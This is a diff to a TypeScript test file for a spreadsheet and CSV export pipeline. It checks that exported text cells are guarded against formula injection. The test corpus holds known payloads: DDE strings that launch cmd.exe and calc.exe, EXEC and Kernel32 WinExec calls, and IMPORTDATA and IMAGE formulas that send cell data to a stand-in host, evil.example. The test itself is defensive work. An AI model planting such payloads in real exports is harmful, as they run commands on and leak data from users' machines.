@@ -1,7 +1,11 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { readXlsx } from 'hucre/xlsx';
 import { describe, expect, it } from 'vitest';
 import { encodeTable } from '../../pipeline/encode-table.ts';
 import type { Table, TableColumn } from '../../pipeline/table.ts';
+import { Warehouse } from '../../pipeline/warehouse.ts';
 import { writeXlsx, XLSX_MAX_ROWS } from '../../pipeline/write-xlsx.ts';
 
 const COLUMNS: readonly TableColumn[] = [
@@ -21,6 +25,21 @@ const BODIES = [
   'WEBSERVICE("http://evil.example")',
   'A1:A9',
   '"quoted, and parted"',
+  "rundll32|'URL.dll,OpenURL calc.exe'!A",
+  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+  'EXEC("calc.exe")',
+  'CALL("Kernel32","WinExec","JCJ","calc",0)',
+  'REGISTER.ID("Kernel32","WinExec")',
+  'INDIRECT("A1")',
+  'IMPORTDATA("http://evil.example/?"&B2)',
+  'IMPORTFEED("http://evil.example")',
+  'IMPORTRANGE("id","A1:Z9")',
+  'IMAGE("http://evil.example/"&A2)',
+  'RTD("evil.server",,"x")',
+  'SUM(A1:A9)*2',
+  'A1',
+  'tab\there',
+  '',
 ];
 const HEADS = ['=', '+', '-', '@', '\t=', '\r=', '\0=', '−', '＝', '＋', '－', '＠', '\n='];
 const CORPUS = HEADS.flatMap((head) => BODIES.map((body) => `${head}${body}`));
@@ -60,8 +79,40 @@ describe('a spreadsheet', () => {
       ['b', null],
     ]);
     expect(sheet.freezePane).toEqual({ rows: 1 });
-    expect(sheet.autoFilter?.range).toBe('A1:B3');
+    // the table has the filter: Excel mends, and complains of, a file with both
+    expect(sheet.autoFilter).toBeUndefined();
     expect(sheet.cells?.get('1,1')?.style?.numFmt).toBe('#,##0.00');
+  });
+
+  it('is a named table of all rows, and prints all of them below its header', async () => {
+    const bytes = await writeXlsx(
+      [...sheets, { ...sheets[0], name: 'Read-me' }, { ...sheets[0], name: 'Empty', rows: [] }],
+      {
+        title: 't',
+      },
+    );
+    const book = await readXlsx(bytes, { readStyles: true });
+    const tables = book.sheets.map((sheet) =>
+      (sheet.tables ?? []).map(({ name, range, columns, showAutoFilter }) => ({
+        name,
+        range,
+        columns: columns.map((column) => column.name),
+        showAutoFilter,
+      })),
+    );
+    const columns = ['name', 'amount'];
+    expect(tables).toEqual([
+      [{ name: 'liftproof_roi', range: 'A1:B3', columns, showAutoFilter: true }],
+      [{ name: 'liftproof_read_me', range: 'A1:B3', columns, showAutoFilter: true }],
+      // a table has a row at least
+      [],
+    ]);
+    expect(book.sheets.map((sheet) => [sheet.pageSetup?.printArea, sheet.pageSetup?.printTitlesRow])).toEqual([
+      ['$A$1:$B$3', '$1:$1'],
+      ['$A$1:$B$3', '$1:$1'],
+      ['$A$1:$B$1', '$1:$1'],
+    ]);
+    expect(book.sheets[2].autoFilter?.range).toBe('A1:B1');
   });
 
   it('keeps digits that a spreadsheet number would lose', async () => {
@@ -94,6 +145,8 @@ describe('a spreadsheet', () => {
 });
 
 describe('CSV', () => {
+  it('has a corpus of 300 and more to guard against', () => expect(new Set(CORPUS).size).toBeGreaterThanOrEqual(300));
+
   it('guards every text cell of the corpus by an apostrophe, and no number', async () => {
     const rows = CORPUS.map((text, i) => [text, `-${i}.25`]);
     const csv = Buffer.from(await encodeTable(tableOf(rows), 'csv')).toString('utf8');
@@ -105,6 +158,30 @@ describe('CSV', () => {
     expect(cells.filter((cell) => !cell.startsWith("'"))).toEqual([]);
     expect(csv).toContain(',-5.25');
     expect(csv).not.toContain(",'-");
+  });
+
+  it('is the only form that changes the text: JSON, NDJSON and Parquet give it back as it is', async () => {
+    const rows = CORPUS.map((text, i) => [text, `-${i}.25`]);
+    const json = JSON.parse(Buffer.from(await encodeTable(tableOf(rows), 'json')).toString('utf8'));
+    expect(json.data.map((row: { name: string }) => row.name)).toEqual(CORPUS);
+    const lines = Buffer.from(await encodeTable(tableOf(rows), 'ndjson'))
+      .toString('utf8')
+      .trim()
+      .split('\n');
+    expect(lines.slice(1, -1).map((line) => JSON.parse(line).name)).toEqual(CORPUS);
+    const warehouse = await Warehouse.open(':memory:');
+    const folder = mkdtempSync(join(tmpdir(), 'liftproof-corpus-'));
+    try {
+      const path = join(folder, 'corpus.parquet');
+      writeFileSync(path, await encodeTable(tableOf(rows), 'parquet'));
+      const read = await warehouse.rows<{ name: string; amount: string }>(
+        `select name, cast(amount as varchar) as amount from read_parquet('${path}')`,
+      );
+      expect(read).toEqual(CORPUS.map((name, i) => ({ name, amount: `-${i}.25` })));
+    } finally {
+      warehouse.close();
+      rmSync(folder, { recursive: true });
+    }
   });
 
   it('leaves harmless text alone', async () => {
